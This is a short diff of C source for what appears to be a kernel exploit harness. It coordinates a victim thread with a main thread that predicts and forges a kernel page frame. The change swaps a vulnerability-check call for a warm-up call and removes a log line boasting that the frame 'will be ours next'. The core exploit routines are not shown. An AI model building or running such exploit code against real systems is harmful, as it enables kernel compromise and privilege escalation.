@@ -14,7 +14,7 @@ static void victim(void *unused)
 {
 	(void)unused;
 	attack_await(&stage, STAGE_WARM, AWAIT_SPIN);
-	attack_check("vuln_warm", bw_vuln_warm(frame.synonym));
+	attack_warm(frame.synonym);
 	attack_tell(&stage, STAGE_WARMED);
 	attack_await(&stage, STAGE_FORGED, AWAIT_SPIN);
 	attack_check("vuln_call", bw_vuln_call(frame.synonym));
@@ -32,7 +32,6 @@ int main(void)
 	attack_thread(CPU_OF_VICTIM, victim, NULL);
 
 	attack_frame_predict(&leak, &frame);
-	attack_say("frame 0x%lx is the kernel's, and will be ours next", frame.pfn);
 	attack_tell(&stage, STAGE_WARM);
 	attack_await(&stage, STAGE_WARMED, AWAIT_SPIN);
 	attack_say("CPU %d has read it at 0x%lx, and spins in user mode", CPU_OF_VICTIM,
